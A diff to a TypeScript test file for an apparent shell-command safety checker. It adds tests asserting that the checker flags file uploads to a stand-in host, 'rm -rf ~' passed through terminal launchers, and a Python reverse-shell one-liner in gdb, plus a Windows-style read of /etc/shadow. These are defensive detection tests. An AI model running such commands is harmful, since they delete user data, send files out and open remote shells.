@@ -36,6 +36,28 @@ describe('a command in the words of an unknown program', () => {
   for (const source of harmless) test(source, () => expect(codes(source)).toEqual([]));
 });
 
+test('files of this machine that go to an address of another', () => {
+  const sent = (source: string) =>
+    effects(source)
+      .filter((e) => e.kind === 'send')
+      .flatMap((e) => e.origins);
+  expect(sent('acmesync ~/notes sftp://x.example/in')).toEqual([{ kind: 'file', what: '/home/me/notes' }]);
+  expect(sent('acmesync ~/notes /backup')).toEqual([]);
+  expect(sent('acmesync ~/notes --log https://x.example/log')).toEqual([]);
+});
+
+test('a command after `--` or `-e`, also in the words of a program that only some rules describe', () => {
+  expect(codes('kitty -e rm -rf ~')).toContain('delete-home');
+  expect(codes('wezterm start -- rm -rf ~')).toContain('delete-home');
+  expect(codes('virsh shutdown web')).toEqual([]);
+});
+
+test('code for a debugger that gives a shell to another machine', () => {
+  const code = 's.connect(("203.0.113.5",4444)); os.dup2(s.fileno(),0); pty.spawn("/bin/sh")';
+  expect(codes(`gdb -ex 'python import socket,os,pty; ${code}'`)).toContain('reverse-shell');
+  expect(codes(`gdb -ex 'python print("socket")'`)).toEqual([]);
+});
+
 test('a path as programs write it that imitate Windows', () => {
   expect(named("acmebox -c 'type c:\\etc\\shadow'")).toContain('/etc/shadow');
 });
